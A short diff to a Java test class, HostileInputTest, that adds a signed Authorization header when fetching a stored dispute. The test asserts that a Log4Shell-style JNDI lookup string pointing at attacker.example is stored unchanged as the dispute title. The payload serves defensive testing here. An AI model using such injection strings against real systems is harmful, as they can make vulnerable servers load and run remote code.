@@ -292,7 +292,8 @@ class HostileInputTest {
         assertThat(answer.statusCode()).isEqualTo(202);
         String id = json.readTree(answer.body()).get("disputeId").asText();
 
-        JsonNode stored = json.readTree(http.send(HttpRequest.newBuilder(URI.create(base + "api/v1/disputes/" + id)).build(),
+        JsonNode stored = json.readTree(http.send(HttpRequest.newBuilder(URI.create(base + "api/v1/disputes/" + id))
+                .header("Authorization", org.fengqiao.gateway.support.SignedSources.basic(DIANKOU)).build(),
                 HttpResponse.BodyHandlers.ofString()).body());
         assertThat(stored.at("/dispute/description").asText()).isEqualTo(text);
         assertThat(stored.at("/dispute/title").asText()).isEqualTo("${jndi:ldap://attacker.example/b}");
